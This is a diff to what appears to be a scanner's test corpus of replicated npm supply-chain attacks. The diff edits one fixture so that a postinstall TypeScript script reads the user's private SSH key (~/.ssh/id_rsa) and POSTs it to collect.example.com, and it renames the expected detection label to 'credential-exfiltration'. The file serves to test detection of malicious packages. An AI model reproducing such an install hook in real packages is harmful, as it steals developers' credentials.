@@ -187,14 +187,14 @@ INCIDENTS: list[Replica] = [
             "scripts/setup.ts": (
                 "import * as fs from 'fs'; import * as os from 'os'; import * as path from 'path';\n"
                 "import * as https from 'https';\n"
-                "const keys: string[] = fs.readdirSync(path.join(os.homedir(), '.ssh'));\n"
+                "const keys: string = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');\n"
                 "const req = https.request({ host: 'collect.example.com', method: 'POST', path: '/k' });\n"
                 "req.end(JSON.stringify({ keys }));\n"
             ),
             "index.js": "module.exports = {};\n",
         },
         "block",
-        frozenset({"install-secrets-network"}),
+        frozenset({"credential-exfiltration"}),
         manifest={"scripts": {"postinstall": "npx tsx scripts/setup.ts"}, "dependencies": {"tsx": "^4.7.0"}},
     ),
     # Path-segment secret locations and an env dump nested in an object (the issue 10 brief; Shai-Hulud's
@@ -212,7 +212,7 @@ INCIDENTS: list[Replica] = [
             ),
         },
         "block",
-        frozenset({"install-secrets-network"}),
+        frozenset({"credential-exfiltration"}),
         manifest={"scripts": {"postinstall": "node postinstall.js"}},
     ),
     # bin hijacking (the issue 10 brief; npm's 2019 bin-link advisories CVE-2019-16775/16776 show how far a
